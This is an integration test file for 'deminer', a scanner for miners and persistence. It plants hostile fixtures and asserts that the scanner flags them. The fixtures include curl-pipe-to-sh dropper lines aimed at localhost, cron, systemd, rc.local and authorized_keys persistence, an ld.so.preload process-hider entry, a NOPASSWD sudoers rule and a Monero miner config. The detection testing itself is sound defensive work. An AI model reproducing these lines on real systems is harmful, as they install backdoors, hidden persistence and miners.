// The files and persistence scopes on real trees: a planted temp tree and
// planted persistence under --root (paths reported as the scanned system sees
// them), a PATH given on the command line, and the clean run over this
// machine's real /usr, /etc and temp dirs.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

void Write(const std::string& path, const std::string& text, fs::perms perms = fs::perms(0644)) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path) << text;
  fs::permissions(path, perms);
}

// Clears the immutable attribute of the files it was given, so the temp dir
// can be removed whatever the test's outcome.
class Unlock {
 public:
  ~Unlock() {
    for (const std::string& p : paths_) RunCommand({"chattr", "-i", "-a", p});
  }
  void Add(const std::string& p) { paths_.push_back(p); }

 private:
  std::vector<std::string> paths_;
};

std::string PathOf(const nlohmann::json& finding) {
  const auto it = finding.find("path");
  return it != finding.end() && it->is_string() ? it->get<std::string>() : std::string();
}

std::string Sha256Of(const std::string& path) {
  const auto r = RunCommand({"sha256sum", path});
  return r.out.substr(0, 64);
}

TEST(FilesTest, PlantedTempTreeUnderRoot) {
  TempDir root;
  Unlock unlock;
  const std::string r = root.path();
  fs::create_directories(r + "/tmp/.svc_370");
  CopyTool("imitation_miner", r + "/tmp/.svc_370/dbus_daemon");
  Write(r + "/var/tmp/up.sh",
        "#!/bin/sh\ncurl -fsSL http://127.0.0.1:8080/x.sh | sh\nchmod +x /tmp/dbus_daemon\n",
        fs::perms(0755));
  Write(r + "/tmp/cache.bin", "known bad bytes\n");
  Write(r + "/tmp/notes.txt", "deminer-test-marker-7f3a\n");
  // The user's own rules: a hash IOC for cache.bin and a YARA rule.
  TempDir extra;
  Write(extra / "hash-iocs.txt", Sha256Of(r + "/tmp/cache.bin") + ";test sample\n");
  Write(extra / "user.yar",
        "rule test_marker { meta: severity = \"medium\" strings: $m = \"deminer-test-marker-7f3a\" "
        "condition: $m }\n");
  // A real immutable file, where the file system supports it.
  Write(r + "/tmp/locked", "x\n");
  const bool chattr = RunCommand({"chattr", "+i", r + "/tmp/locked"}).exit_code == 0;
  if (chattr) unlock.Add(r + "/tmp/locked");

  const auto scan = ScanJson({"--only", "files", "--root", r, "--rules", extra.path()});
  const auto exe = FindingsOf(scan, "file.exe-in-temp");
  ASSERT_EQ(exe.size(), 2u) << scan.dump(2);
  EXPECT_EQ(exe[0]["path"], "/tmp/.svc_370/dbus_daemon");  // relative to the root
  EXPECT_EQ(exe[0]["severity"], "high");
  EXPECT_EQ(exe[0]["evidence"]["content"], "ELF");
  EXPECT_EQ(exe[0]["evidence"]["sha256"], Sha256Of(r + "/tmp/.svc_370/dbus_daemon"));
  EXPECT_EQ(exe[1]["path"], "/var/tmp/up.sh");
  const auto hidden = FindingsOf(scan, "file.hidden");
  ASSERT_EQ(hidden.size(), 1u);
  EXPECT_EQ(hidden[0]["path"], "/tmp/.svc_370");
  EXPECT_EQ(hidden[0]["evidence"]["programs_inside"][0], "/tmp/.svc_370/dbus_daemon");
  ASSERT_EQ(FindingsOf(scan, "file.name-ioc", "dbus_daemon").size(), 1u);
  const auto hash = FindingsOf(scan, "file.hash-ioc");
  ASSERT_EQ(hash.size(), 1u);
  EXPECT_EQ(hash[0]["path"], "/tmp/cache.bin");
  EXPECT_EQ(hash[0]["severity"], "critical");
  const auto user_yara = FindingsOf(scan, "file.yara", "/tmp/notes.txt");
  ASSERT_EQ(user_yara.size(), 1u) << scan.dump(2);
  EXPECT_EQ(user_yara[0]["evidence"]["rule"], "user:test_marker");
  EXPECT_EQ(user_yara[0]["severity"], "medium");
  const auto dropper = FindingsOf(scan, "file.dropper-script");
  ASSERT_EQ(dropper.size(), 1u);
  EXPECT_EQ(dropper[0]["line"], 2);
  EXPECT_EQ(dropper[0]["severity"], "high");
  if (chattr) {
    const auto imm = FindingsOf(scan, "file.immutable");
    ASSERT_EQ(imm.size(), 1u);
    EXPECT_EQ(imm[0]["path"], "/tmp/locked");
  } else {
    std::cerr << "note: chattr +i is not supported under " << r
              << "; the immutable-file part of this test was skipped\n";
  }
  for (const auto& f : scan["findings"]) {
    EXPECT_FALSE(PathOf(f).starts_with(r)) << f.dump(2);
  }
}

TEST(FilesTest, DefaultYaraPackFindsMinerConfigAndDropper) {
  TempDir root;
  Write(root / "tmp/config.json", R"({
  "autosave": true,
  "donate-level": 0,
  "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 60},
  "pools": [{"algo": "rx/0", "coin": "monero", "url": "stratum+tcp://127.0.0.1:3333",
             "user": "42s7H81wKKbggZsnd5geEeC7ANWUDhkqf7xhdSgaBd9ZE61qwwh7ch1gBQkE5FbvabAdNTeNV18nBNTpioUqmgHj4h4kks2",
             "pass": "x", "tls": false, "keepalive": true, "nicehash": false}]
}
)");
  const auto scan = ScanJson({"--only", "files", "--root", root.path()});
  const auto yara = FindingsOf(scan, "file.yara", "/tmp/config.json");
  ASSERT_FALSE(yara.empty()) << scan.dump(2);
  bool critical = false;
  for (const auto& f : yara) critical |= f["severity"] == "critical";
  EXPECT_TRUE(critical) << scan.dump(2);
}

// A YARA rule that is only a digest comparison is answered from the walk's
// own hashing, so it also meets a file too large to match whole
// (--max-file-size), and turns on the digest it needs (SHA-1, which no IOC
// of the default pack asks for).
TEST(FilesTest, DigestYaraRulesMeetFilesTooLargeToMatch) {
  TempDir root;
  const std::string r = root.path();
  std::string big(size_t{3} << 20, '\0');
  for (size_t i = 0; i < big.size(); ++i) big[i] = static_cast<char>((i * 7919) >> 5);
  Write(r + "/tmp/big.bin", big);
  Write(r + "/tmp/small.bin", "not it\n");
  const std::string sha1 = RunCommand({"sha1sum", r + "/tmp/big.bin"}).out.substr(0, 40);
  TempDir extra;
  Write(extra / "hashes.yar",
        "import \"hash\"\nrule big_sample {\n  meta:\n    severity = \"high\"\n"
        "  condition:\n    filesize > 1MB and hash.sha1(0, filesize) == \"" +
            sha1 + "\"\n}\n");
  const auto scan =
      ScanJson({"--only", "files", "--root", r, "--rules", extra.path(), "--max-file-size", "1"});
  const auto yara = FindingsOf(scan, "file.yara");
  ASSERT_EQ(yara.size(), 1u) << scan.dump(2);
  EXPECT_EQ(yara[0]["path"], "/tmp/big.bin");
  EXPECT_EQ(yara[0]["evidence"]["rule"], "hashes:big_sample");
  EXPECT_EQ(yara[0]["severity"], "high");
}

TEST(FilesTest, PathArgumentIsWalkedWithAbsolutePaths) {
  TempDir dir;
  fs::create_directories(dir / "app");
  CopyTool("imitation_miner", dir / "app/xmrig");
  const auto scan = ScanJson({"--only", "files", "--root", dir.path(), dir / "app"});
  const auto named = FindingsOf(scan, "file.name-ioc");
  ASSERT_EQ(named.size(), 1u) << scan.dump(2);
  EXPECT_EQ(named[0]["path"], dir / "app/xmrig");
  EXPECT_EQ(RunDeminer({"scan", "--only", "files", dir / "nope"}).exit_code, 2);
  EXPECT_EQ(RunDeminer({"scan", "--only", "processes", dir.path()}).exit_code, 2);
}

TEST(FilesTest, PlantedPersistenceUnderRoot) {
  TempDir root;
  Unlock unlock;
  const std::string r = root.path();
  Write(r + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000::/home/app:/bin/sh\n");
  Write(r + "/etc/systemd/system/javae.service",
        "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/javae -o pool.supportxmr.com:443 "
        "--donate-level 1\nRestart=always\n");
  Write(r + "/etc/crontab",
        "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://127.0.0.1/x.sh | sh\n");
  Write(r + "/var/spool/cron/crontabs/app", "@reboot /var/tmp/.x/run -q\n");
  Write(r + "/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
  Write(r + "/home/app/.bashrc",
        "alias ll='ls -l'\nwget -q -O /tmp/k http://127.0.0.1/k && chmod +x /tmp/k\n");
  Write(r + "/root/.ssh/authorized_keys",
        "command=\"curl -s http://127.0.0.1/x | sh\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x@y\n");
  Write(r + "/root/.pm2/dump.pm2",
        R"([{"name":"dbus","pm_exec_path":"/tmp/dbus_daemon","exec_interpreter":"none"}])");
  Write(r + "/etc/rc.local", "#!/bin/sh\nnohup /tmp/dbus_daemon >/dev/null 2>&1 &\nexit 0\n");
  Write(r + "/etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n");
  Write(r + "/usr/bin/system-check", "#!/bin/sh\n", fs::perms(0755));
  const bool chattr = RunCommand({"chattr", "+i", r + "/usr/bin/system-check"}).exit_code == 0;
  if (chattr) unlock.Add(r + "/usr/bin/system-check");

  const auto scan = ScanJson({"--only", "persistence", "--root", r});
  const auto one = [&](const char* check, const std::string& subject) {
    const auto found = FindingsOf(scan, check, subject);
    EXPECT_FALSE(found.empty()) << check << " " << subject << "\n" << scan.dump(2);
    return found.empty() ? nlohmann::json() : found[0];
  };
  EXPECT_EQ(one("persist.systemd", "/etc/systemd/system/javae.service:4")["severity"], "critical");
  EXPECT_EQ(one("persist.cron", "/etc/crontab:2")["line"], 2);
  EXPECT_EQ(one("persist.cron", "/var/spool/cron/crontabs/app:1")["evidence"]["owner"], "app");
  EXPECT_EQ(one("persist.ld-preload", "/etc/ld.so.preload")["severity"], "critical");
  EXPECT_EQ(one("persist.shell-startup", "/home/app/.bashrc:2")["evidence"]["owner"], "app");
  EXPECT_GE(FindingsOf(scan, "persist.ssh-key", "/root/.ssh/authorized_keys").size(), 1u);
  EXPECT_EQ(FindingsOf(scan, "persist.pm2", "/root/.pm2/dump.pm2").size(), 2u);
  one("persist.boot-script", "/etc/rc.local:2");
  one("persist.sudoers", "/etc/sudoers.d/app:1");
  if (chattr) one("persist.immutable", "/usr/bin/system-check");
  for (const auto& f : scan["findings"]) {
    EXPECT_FALSE(PathOf(f).starts_with(r)) << f.dump(2);
  }
}

// The default YARA pack on its samples (testdata/yara-samples, whose README
// lists the rules each file must fire, and no others): deminer's gates (the
// Vectorscan pre-filter, file-size ranges) must not lose a single match.
TEST(FilesTest, DefaultYaraPackOnItsSamplesFiresExactlyTheListedRules) {
  const std::string samples =
      std::string(DEMINER_SOURCE_DIR) + "/tests/integration/testdata/yara-samples";
  std::map<std::string, std::set<std::string>> want;
  std::ifstream readme(samples + "/README.md");
  for (std::string line; std::getline(readme, line);) {
    if (!line.starts_with("| `")) continue;
    const size_t name_end = line.find('`', 3);
    const std::string name = line.substr(3, name_end - 3);
    std::string rules = line.substr(line.find('|', name_end) + 1);
    rules = rules.substr(0, rules.find('('));
    std::set<std::string>& set = want[name];
    std::string word;
    for (const char c : rules + ",") {
      if (std::isalnum(static_cast<unsigned char>(c)) || c == '_') {
        word += c;
      } else if (!word.empty()) {
        if (word != "none") set.insert(word);  // the negative samples
        word.clear();
      }
    }
  }
  ASSERT_GE(want.size(), 20u);
  TempDir empty;
  const auto scan = ScanJson({"--only", "files", "--root", empty.path(), samples});
  std::map<std::string, std::set<std::string>> got;
  for (const auto& f : FindingsOf(scan, "file.yara")) {
    const std::string rule = f["evidence"]["rule"];
    got[std::string(fs::path(PathOf(f)).filename())].insert(rule.substr(rule.find(':') + 1));
  }
  for (const auto& [name, rules] : want) {
    EXPECT_EQ(got[name], rules) << name;
  }
  for (const auto& [name, rules] : got) {
    if (!want.contains(name)) ADD_FAILURE() << name << " fired " << rules.size() << " rules";
  }
}

// The clean run: this machine's real /usr, /etc, temp dirs and persistence have
// no high or critical finding. Findings about the project's own checkout and
// build (CI may clone it under /tmp) are left out: they are this test's tools.
TEST(FilesTest, CleanRunOverThisMachineHasNoHighOrCritical) {
  const std::string project = fs::canonical(DEMINER_SOURCE_DIR).string();
  const auto scan = ScanJson({"--only", "files,persistence", "--fail-on", "none"});
  ASSERT_TRUE(scan.contains("findings"));
  EXPECT_GT(scan["counts"]["persistence_files"].get<int>(), 0);
  for (const auto& f : scan["findings"]) {
    const std::string path = PathOf(f);
    if (!path.empty() && path.starts_with(project)) continue;
    EXPECT_NE(f["severity"], "critical") << f.dump(2);
    EXPECT_NE(f["severity"], "high") << f.dump(2);
  }
}

}  // namespace
}  // namespace deminer::it
